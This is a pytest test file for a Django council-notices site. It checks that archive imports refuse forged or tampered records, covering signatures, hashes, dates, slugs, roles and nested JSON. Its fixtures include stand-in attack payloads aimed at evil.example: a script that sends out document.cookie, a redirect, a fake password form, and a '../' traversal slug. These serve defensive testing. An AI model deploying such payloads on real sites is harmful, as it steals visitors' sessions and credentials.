"""An archive is untrusted input: signed exports, and forged ones (each field the issue names)
refused with a report and nothing written."""

import json
import os
import socket
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from django.core.cache import caches
from django.test import override_settings

from councils.models import Council, CouncilMembership
from notices.models import NoticeVersion
from notices.publishing.rendering import render_notice_html
from notices.publishing.snapshots import content_hash
from notices.site_archive.tests import test_site_archive
from notices.site_archive.tests.test_site_archive import (
    edit,
    export,
    import_,
    refused_import,
    rewrite,
)

# The small site's export, signed, in an empty database.
archive = test_site_archive.archive

HOSTILE_HTML = [
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<form action="https://evil.example/sign-in" method="post"><input name="password"></form>',
]
FORGED = "--trust-unsigned"


def version_record(path: Path) -> dict:
    return next(
        record
        for record in json.loads(path.read_text(encoding="utf-8"))["records"]
        if record["model"] == "notices.noticeversion"
    )


def with_version(**fields):
    return edit("notices.noticeversion", **fields)


# Signatures ---------------------------------------------------------------------------------


def test_an_export_is_signed_and_imports_as_it_is(archive):
    header = json.loads(archive.read_text(encoding="utf-8").splitlines()[0] + "]}")
    assert header["signature"].startswith("hmac-sha256:")
    assert "councils: 1" in import_(archive)


def test_any_edit_to_a_signed_export_is_refused(archive):
    text = archive.read_text(encoding="utf-8")
    archive.write_text(text.replace("Ynys Môn Council", "Ynys Mon Council"), encoding="utf-8")
    assert "signature does not match its content" in refused_import(archive, "--verbosity", "1")


def test_an_export_signed_with_another_key_is_refused(archive, settings):
    settings.SITE_ARCHIVE_KEY = "another-key-of-at-least-thirty-two-characters"
    assert "signed with another SITE_ARCHIVE_KEY" in refused_import(archive, "--verbosity", "1")


def test_an_unsigned_export_needs_trust_unsigned(db, tmp_path, settings, make_council):
    settings.SITE_ARCHIVE_KEY = ""
    make_council()
    path = tmp_path / "unsigned.json"
    assert "the file is unsigned" in export(path)
    Council.objects.all().delete()
    assert "The file is not signed" in refused_import(path, "--verbosity", "1")
    assert "councils: 1" in import_(path, FORGED)


def test_a_short_key_is_refused_before_anything_is_written(db, tmp_path, settings):
    settings.SITE_ARCHIVE_KEY = "short"
    with pytest.raises(Exception, match="use at least 32"):
        export(tmp_path / "site.json")
    assert not list(tmp_path.iterdir())


# Forged archives: with the signature skipped, each field is still checked ------------------


@pytest.mark.parametrize("payload", HOSTILE_HTML)
def test_rendered_html_is_never_taken_from_the_archive(archive, payload):
    assert "signature does not match" in refused_import(
        rewrite(archive, with_version(rendered_html=payload)), "--verbosity", "1"
    )
    import_(archive, FORGED)
    stored = NoticeVersion.objects.select_related("shared_block_version").get()
    assert payload not in stored.rendered_html
    assert stored.rendered_html == render_notice_html(
        stored.snapshot, stored.shared_block_version.snapshot
    )


def test_a_snapshot_that_does_not_match_its_hash_is_refused(archive):
    snapshot = version_record(archive)["fields"]["snapshot"]
    snapshot["notice"]["introduction"] = '<a href="https://evil.example/">Sign in again</a>'
    rewrite(archive, with_version(snapshot=snapshot))
    assert "does not match its content_hash" in refused_import(archive)


def test_a_snapshot_the_site_cannot_render_is_refused_even_with_its_hash(archive):
    snapshot = {"notice": 1}
    forged_hash = content_hash({"notice": snapshot, "shared_block_version": 1})
    rewrite(archive, with_version(snapshot=snapshot, content_hash=forged_hash))
    assert "cannot be rendered" in refused_import(archive)


def test_a_title_not_in_the_snapshot_is_refused(archive):
    rewrite(archive, with_version(title="Your account is locked: sign in at evil.example"))
    assert "is not the one its snapshot holds" in refused_import(archive)


def test_a_version_dated_before_the_block_version_it_embeds_is_refused(archive):
    rewrite(archive, with_version(published_at="2001-01-01T00:00:00+00:00"))
    assert "it was back-dated" in refused_import(archive)


def test_a_version_dated_after_the_export_is_refused(archive):
    rewrite(archive, with_version(published_at="2099-01-01T00:00:00+00:00"))
    assert "after the export was made" in refused_import(archive)


def test_a_version_dated_before_the_one_it_follows_is_refused(archive):
    def second_version_dated_earlier(record):
        if record["model"] != "notices.noticeversion":
            return [record]
        first_date = datetime.fromisoformat(record["fields"]["published_at"])
        second = {**record, "pk": record["pk"] + 1, "fields": {**record["fields"], "number": 2}}
        # Version 2 keeps the date; version 1 is moved a minute after it.
        record["fields"]["published_at"] = (first_date + timedelta(minutes=1)).isoformat()
        return [record, second]

    rewrite(archive, second_version_dated_earlier)
    assert "before the version it follows" in refused_import(archive)


@pytest.mark.parametrize("slug", ["a/b", "../sitemap.xml", "sitemap.xml", "", " padded ", "é"])
def test_a_council_slug_that_would_break_addresses_is_refused(archive, slug):
    rewrite(archive, edit("councils.council", slug=slug))
    assert "slug" in refused_import(archive)


@pytest.mark.parametrize("role", ["owner", "", "PUBLISHER", "publisher\u202e"])
def test_a_role_the_site_does_not_have_is_refused(archive, role):
    rewrite(archive, edit("councils.councilmembership", role=role))
    message = refused_import(archive)
    assert "role" in message
    assert not CouncilMembership.objects.exists()


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"username": "bad name/with slash"}, "username"),
        ({"email": "not an email"}, "email"),
    ],
)
def test_an_account_the_admin_would_refuse_is_refused(archive, fields, expected):
    rewrite(archive, edit("auth.user", **fields))
    assert expected in refused_import(archive)


def test_a_council_kind_the_site_does_not_have_is_refused(archive):
    rewrite(archive, edit("councils.council", kind="parish"))
    assert "kind" in refused_import(archive)


def test_an_export_dated_in_the_future_is_refused(archive):
    lines = archive.read_text(encoding="utf-8").splitlines(keepends=True)
    header = json.loads(lines[0] + "]}")
    lines[0] = lines[0].replace(header["exported_at"], "2099-01-01T00:00:00+00:00")
    archive.write_text("".join(lines), encoding="utf-8")
    assert "still to come" in refused_import(archive)


def test_deeply_nested_json_is_refused(archive):
    text = archive.read_text(encoding="utf-8")
    archive.write_text(text.replace("\n]}", ",\n" + "[" * 200_000 + "]" * 200_000 + "\n]}"))
    assert "is not a JSON record this site can read" in refused_import(archive)


# The cache: only this site's keys -----------------------------------------------------------


def redis_is_up() -> bool:
    try:
        with socket.create_connection(("127.0.0.1", 6379), timeout=0.5):
            return True
    except OSError:
        return False


def test_the_import_removes_only_this_sites_keys_from_a_shared_redis(archive):
    if not redis_is_up():
        if os.environ.get("CI"):
            pytest.fail("Redis must be running at 127.0.0.1:6379 in CI")
        pytest.skip("Redis is not running at 127.0.0.1:6379")
    location = "redis://127.0.0.1:6379/15"
    backend = "django.core.cache.backends.redis.RedisCache"
    ours = {"BACKEND": backend, "LOCATION": location, "KEY_PREFIX": "archive-test-ours"}
    theirs = {"BACKEND": backend, "LOCATION": location, "KEY_PREFIX": "archive-test-theirs"}
    with override_settings(CACHES={"default": ours, "other": theirs}):
        caches["default"].set("page", "ours")
        caches["other"].set("page", "theirs")
        try:
            import_(archive)
            assert caches["default"].get("page") is None
            assert caches["other"].get("page") == "theirs"
        finally:
            caches["other"].delete("page")
